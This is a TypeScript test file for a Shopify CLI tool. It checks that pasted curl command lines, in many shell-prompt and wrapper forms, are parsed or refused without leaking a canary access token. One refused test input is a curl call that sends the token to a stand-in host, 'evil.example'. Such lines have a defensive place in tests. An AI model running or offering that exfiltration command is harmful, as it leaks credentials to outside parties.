import { describe, expect, it } from 'vitest';
import { UserError } from '../../../../source/core/errors.ts';
import type { ApiTarget } from '../../../../source/core/http/api-request.ts';
import { askCall, readCall, type RequestCall } from '../../../../source/core/requests/call.ts';
import { behindCurl, looksLikeCurl } from '../../../../source/core/requests/curl/curl-start.ts';
import { readCurl } from '../../../../source/core/requests/curl/read-curl.ts';
import { SHOPIFY_PROFILE } from '../../../../source/core/service/profile.ts';
import { parseShop } from '../../../../source/core/service/shop-domain.ts';
import { Secret } from '../../../../source/core/text/secret.ts';
import { liveDemo } from '../../../support/store/store-addresses.ts';

const CANARY = ['shpat', 'canary0123456789'].join('_');
const target: ApiTarget = {
  address: liveDemo(),
  token: new Secret(['shpat', 'another'].join('_')),
  version: '2026-10',
  userAgent: 'tokenwright/1.2.3',
};
const WORDS = `-H "X-Shopify-Access-Token: ${CANARY}" https://demo.myshopify.com/admin/api/2026-10/shop.json`;

const LINES: readonly string[] = [
  `curl ${WORDS}`,
  `   curl ${WORDS}`,
  `${' '.repeat(2000)}curl ${WORDS}`,
  `\n\n\tcurl ${WORDS}`,
  `\u00a0\u200b\ufeffcurl ${WORDS}`,
  `$ curl ${WORDS}`,
  `$curl ${WORDS}`,
  `  $  curl ${WORDS}`,
  `> curl ${WORDS}`,
  `me@host:~/shop$ curl ${WORDS}`,
  `root@host:/# curl ${WORDS}`,
  `PS C:\\Users\\me> curl.exe ${WORDS}`,
  `C:\\>curl ${WORDS}`,
  `curl.exe ${WORDS}`,
  `CURL.EXE ${WORDS}`,
  `Curl ${WORDS}`,
  `/usr/bin/curl ${WORDS}`,
  `"C:\\Windows\\System32\\curl.exe" ${WORDS}`,
  `sudo curl ${WORDS}`,
  `TOKEN=${CANARY} curl ${WORDS}`,
  `time env A=b curl ${WORDS}`,
  `! curl ${WORDS}`,
  `curl \\\n  ${WORDS}`,
  `curl\\\n  ${WORDS}`,
  `curl ^\n  ${WORDS}`,
  `curl\t${WORDS}`,
];

/** Known by the word inside the line. */
const BEHIND_OTHERS: readonly string[] = [
  'sudo -E',
  'sudo -u me',
  'nohup',
  'time -p',
  'watch -n 5',
  'env -i A=b',
  'if',
  'builtin',
  'nice -n 5',
  'command -p',
  'echo x |',
  'cd /tmp &&',
  'A="b c"',
  '- ',
  '1.',
  '```sh\n',
  '**Try it:**',
].map((before) => `${before} curl ${WORDS}`);

const OTHER_NAMES: readonly string[] = [
  `$(curl ${WORDS})`,
  `A=$(curl ${WORDS})`,
  `\`curl ${WORDS}\``,
  `& 'C:\\Program Files\\Git\\curl.exe' ${WORDS}`,
  `curl-8.5 ${WORDS}`,
  `curl8 ${WORDS}`,
  `curl; ${WORDS}`,
];

const REFUSED: readonly string[] = [
  'curl',
  '$ curl',
  'curl.exe',
  `curl -X TRACE ${WORDS}`,
  `curl https://evil.example/?token=${CANARY}`,
  `curl 'an open quote ${CANARY}`,
  `curl ${WORDS} \\`,
  `curl -K ${CANARY}`,
];

function refusalOf(call: RequestCall): UserError {
  try {
    askCall(target, call);
  } catch (error) {
    if (error instanceof UserError) return error;
    throw error;
  }
  throw new Error(`sent as ${JSON.stringify(call)}`);
}

describe.each([...LINES, ...BEHIND_OTHERS, ...OTHER_NAMES, ...REFUSED])(
  'a pasted curl line: %j',
  (line) => {
    it('is known as one', () => {
      expect(looksLikeCurl(line)).toBe(true);
    });

    it('is never sent as a path, with a method before it or without', () => {
      for (const method of ['GET', 'POST']) {
        const refusal = refusalOf({ api: 'rest', method, path: line, headers: [], body: '' });
        expect(`${refusal.message} ${refusal.remedy}`).not.toContain('canary');
      }
      const read = readCall(`GET ${line.trimStart()}`);
      if (read !== null) expect(refusalOf(read).exitCode).toBe(2);
    });

    it('is never sent as a document', () => {
      const refusal = refusalOf({ api: 'graphql', query: line, variables: '' });
      expect(refusal.code).toBe('curl-line');
      expect(refusal.message).not.toContain('canary');
    });

    it('is no shop', () => {
      const verdict = parseShop(`${line} x`, SHOPIFY_PROFILE);
      expect(verdict.type).toBe('refused');
      expect(JSON.stringify(verdict)).not.toContain('canary');
    });
  },
);

it.each([...LINES, ...BEHIND_OTHERS])(
  '%j is taken apart as every other one, without its token',
  (line) => {
    const read = readCurl(line, target);
    expect(read).toMatchObject({
      type: 'call',
      call: { api: 'rest', method: 'GET', path: 'shop.json' },
    });
    expect(JSON.stringify(read)).not.toContain('canary');
  },
);

it.each(REFUSED)('%j is refused in words, or waits for its end', (line) => {
  const read = readCurl(line, target);
  expect(read.type).not.toBe('call');
  expect(JSON.stringify(read)).not.toContain('canary');
});

it.each(OTHER_NAMES)('nothing of %j is taken over but what it asks for', (line) => {
  expect(JSON.stringify(readCurl(line, target))).not.toContain('canary');
});

it.each([
  '{"title": "Use curl -H here"}',
  '[\n"curl https://x.example"]',
  'mutation { a(text: "curl -X POST") { id } }',
  'products.json?title=curl tool',
  'products/curly.json',
  'metaobjects/curl.json',
  'products/curl',
  '# a note on curl\n{ shop { name } }',
  '{ products(query: "a > curl b") { nodes { id } } }',
  'query curl { shop { name } }',
  'curling.json',
  '',
])('%j is none', (text) => {
  expect(looksLikeCurl(text)).toBe(false);
  expect(behindCurl(text)).toBe(text);
});

it.each(['a b.json', 'shop.json -H x', 'wget https://x.example', 'a\u00a0b'])(
  'a path with a blank before its query is none: %j',
  (path) => {
    expect(refusalOf({ api: 'rest', method: 'GET', path, headers: [], body: '' }).code).toBe(
      'invalid-path',
    );
  },
);
